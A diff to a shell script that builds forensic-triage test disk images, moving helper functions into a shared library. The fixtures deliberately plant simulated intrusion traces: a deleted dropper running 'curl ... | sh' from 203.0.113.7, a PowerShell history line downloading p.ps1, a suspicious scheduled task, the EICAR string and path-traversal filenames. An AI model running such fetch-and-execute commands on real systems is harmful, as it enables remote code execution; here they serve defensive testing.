@@ -30,94 +30,9 @@ fx=${TRIAGE_TEST_DATA:-$here/../../../shared/fixtures}
 }
 fx=$(cd "$fx" && pwd)
 
-export LC_ALL=C TZ=UTC
-export SOURCE_DATE_EPOCH=1680674828            # 2023-04-05T06:07:08Z
-export E2FSPROGS_FAKE_TIME=$SOURCE_DATE_EPOCH
-export MTOOLS_SKIP_CHECK=1 MTOOLSRC=/dev/null
-export NO_FAKE_STAT=1
-FROZEN='2023-04-05 06:07:08'
-umask 022
-
-for tool in mke2fs debugfs dumpe2fs mkfs.vfat mcopy mmd sfdisk faketime perl; do
-    command -v "$tool" >/dev/null || { echo "mkartifacts.sh: '$tool' not found" >&2; exit 2; }
-done
-
-work=$(mktemp -d "${TMPDIR:-/tmp}/mkartifacts.XXXXXX")
-trap 'rm -rf "$work"' EXIT
-
-cat > "$work/mke2fs.conf" <<'EOF'
-[defaults]
-	blocksize = 1024
-	inode_size = 256
-	inode_ratio = 16384
-[fs_types]
-	small = {
-		inode_ratio = 16384
-	}
-	floppy = {
-		inode_ratio = 16384
-	}
-	ext2 = {
-		features = ^has_journal
-	}
-	ext4 = {
-		features = has_journal,extent,huge_file,flex_bg,metadata_csum,64bit,dir_nlink,extra_isize
-	}
-EOF
-export MKE2FS_CONFIG=$work/mke2fs.conf
-
-# shellcheck disable=SC2016
-EICAR='X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
-
-# ext_set_times IMAGE BASE FIRST LAST: same scheme as mkfixtures.sh (crtime/mtime/ctime/atime =
-# BASE + n*3600 + 0/1/2/3 s, nsec 100000000/200000000/300000000/400000000 + n).
-ext_set_times() {
-    local img=$1 base=$2 first=$3 last=$4 n t
-    for n in 2 $(seq "$first" "$last"); do
-        t=$((base + n * 3600))
-        printf 'sif <%d> crtime @%d\nsif <%d> crtime_extra %d\n' "$n" "$t" "$n" $(((100000000 + n) << 2))
-        printf 'sif <%d> mtime @%d\nsif <%d> mtime_extra %d\n' "$n" $((t + 1)) "$n" $(((200000000 + n) << 2))
-        printf 'sif <%d> ctime @%d\nsif <%d> ctime_extra %d\n' "$n" $((t + 2)) "$n" $(((300000000 + n) << 2))
-        printf 'sif <%d> atime @%d\nsif <%d> atime_extra %d\n' "$n" $((t + 3)) "$n" $(((400000000 + n) << 2))
-        printf 'sif <%d> uid 0\nsif <%d> gid 0\n' "$n" "$n"
-    done > "$work/sif.cmds"
-    faketime "$FROZEN" debugfs -w -f "$work/sif.cmds" "$img" >/dev/null 2>&1
-}
-
-ext_last_inode() {
-    local total free
-    total=$(dumpe2fs -h "$1" 2>/dev/null | awk -F: '/^Inode count/ {print $2+0}')
-    free=$(dumpe2fs -h "$1" 2>/dev/null | awk -F: '/^Free inodes/ {print $2+0}')
-    echo $((total - free))
-}
-
-# ext_chown IMAGE UID GID PATH...: owner of each path (after ext_set_times made all 0:0).
-ext_chown() {
-    local img=$1 uid=$2 gid=$3 p
-    shift 3
-    for p in "$@"; do
-        printf 'sif "%s" uid %d\nsif "%s" gid %d\n' "$p" "$uid" "$p" "$gid"
-    done > "$work/chown.cmds"
-    faketime "$FROZEN" debugfs -w -f "$work/chown.cmds" "$img" >/dev/null 2>&1
-}
-
-# mkext TYPE IMAGE SIZE_KIB STAGING UUID SEED LABEL INODES [extra mke2fs args]
-mkext() {
-    local type=$1 img=$2 kib=$3 dir=$4 uuid=$5 seed=$6 label=$7 inodes=$8
-    shift 8
-    rm -f "$img"
-    truncate -s "${kib}K" "$img"
-    mke2fs -q -F -t "$type" -b 1024 -I 256 -N "$inodes" -m 0 -L "$label" -U "$uuid" \
-        -E "hash_seed=$seed,root_owner=0:0,lazy_itable_init=0,nodiscard" \
-        "$@" -d "$dir" "$img" "${kib}k"
-}
-
-# fat_put IMAGE DESTDIR FILE...
-fat_put() {
-    local img=$1 dest=$2
-    shift 2
-    faketime "$FROZEN" mcopy -m -o -i "$img" "$@" "::$dest"
-}
+# shellcheck source=tests/data/fixtures-lib.bash
+. "$here/fixtures-lib.bash"
+fixture_setup mkartifacts.sh mke2fs debugfs dumpe2fs mkfs.vfat mcopy mmd sfdisk faketime perl
 
 # ------------------------------------------------------------------------------ sample.img p1
 build_linux() {
@@ -200,7 +115,7 @@ EOF
 
     mkext ext4 "$img" 6144 "$s" 2e3f0b1a-0000-4000-8000-0000000005a1 \
         5eed0000-0000-4000-8000-0000000005a1 sample-linux 128 -J size=1
-    ext_set_times "$img" "$SOURCE_DATE_EPOCH" 11 "$(ext_last_inode "$img")"
+    ext_set_times "$img" "$SOURCE_DATE_EPOCH" 11 "$(ext_last_inode "$img")" root
     ext_chown "$img" 1000 1000 /home/alice /home/alice/.bash_history /home/alice/.ssh \
         /home/alice/.ssh/authorized_keys /home/alice/.ssh/known_hosts /home/alice/Downloads \
         /home/alice/Downloads/invoice.pdf.exe /home/alice/.local /home/alice/.local/share \
@@ -211,7 +126,7 @@ EOF
     printf '#!/bin/sh\ncurl -s http://203.0.113.7/stage2 | sh\n' > "$work/dropper.sh"
     faketime "$FROZEN" debugfs -w -R "write $work/dropper.sh /home/alice/Downloads/dropper.sh" "$img" >/dev/null 2>&1
     ino=$(debugfs -R "stat /home/alice/Downloads/dropper.sh" "$img" 2>/dev/null | awk '/^Inode:/ {print $2; exit}')
-    ext_set_times "$img" "$SOURCE_DATE_EPOCH" "$ino" "$ino"
+    ext_set_times "$img" "$SOURCE_DATE_EPOCH" "$ino" "$ino" root
     faketime "$FROZEN" debugfs -w -R "rm /home/alice/Downloads/dropper.sh" "$img" >/dev/null 2>&1
     faketime "$FROZEN" debugfs -w -R "sif <$ino> dtime @$((SOURCE_DATE_EPOCH + 86400 * 30))" "$img" >/dev/null 2>&1
 }
@@ -224,6 +139,7 @@ build_windows() {
     printf 'regf fake SYSTEM hive for triage tests\r\n' > "$s/SYSTEM"
     printf 'regf fake SOFTWARE hive for triage tests\r\n' > "$s/SOFTWARE"
     printf 'regf fake UsrClass.dat for triage tests\r\n' > "$s/UsrClass.dat"
+    # shellcheck disable=SC2016  # a PowerShell variable, literal
     printf 'Get-Process\r\nInvoke-WebRequest http://203.0.113.7/p.ps1 -OutFile $env:TEMP\\p.ps1\r\n' \
         > "$s/ConsoleHost_history.txt"
     printf '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task><Actions><Exec><Command>C:\\Users\\Bob\\AppData\\Local\\Temp\\upd.exe</Command></Exec></Actions></Task>\r\n' \
@@ -284,7 +200,7 @@ EOF
 # Names are written as same-length placeholders, then the bytes in the directory blocks are
 # patched (ext2 directory blocks carry no checksum).  Each placeholder occurs once in the image.
 build_hostile() {
-    local s=$work/hostile img=$work/hostile.img long i cmds=$work/deep.cmds
+    local s=$work/hostile img=$work/hostile.img long cmds=$work/deep.cmds
     mkdir -p "$s/dir"
     echo 'dotdot' > "$s/QQ"
     echo 'slash inside the name' > "$s/dir/aQb"
@@ -305,13 +221,13 @@ build_hostile() {
     {
         echo 'mkdir deep'
         echo 'cd deep'
-        for i in $(seq 1 20); do
+        for _ in $(seq 1 20); do
             printf 'mkdir %s\ncd %s\n' "$deepname" "$deepname"
         done
         echo "write $s/README.TXT bottom.txt"
     } > "$cmds"
     faketime "$FROZEN" debugfs -w -f "$cmds" "$img" >/dev/null 2>&1
-    ext_set_times "$img" "$SOURCE_DATE_EPOCH" 11 "$(ext_last_inode "$img")"
+    ext_set_times "$img" "$SOURCE_DATE_EPOCH" 11 "$(ext_last_inode "$img")" root
     perl -0777 -pi -e '
         s/\x02\x01QQ/\x02\x01../;
         s/aQb/a\/b/;
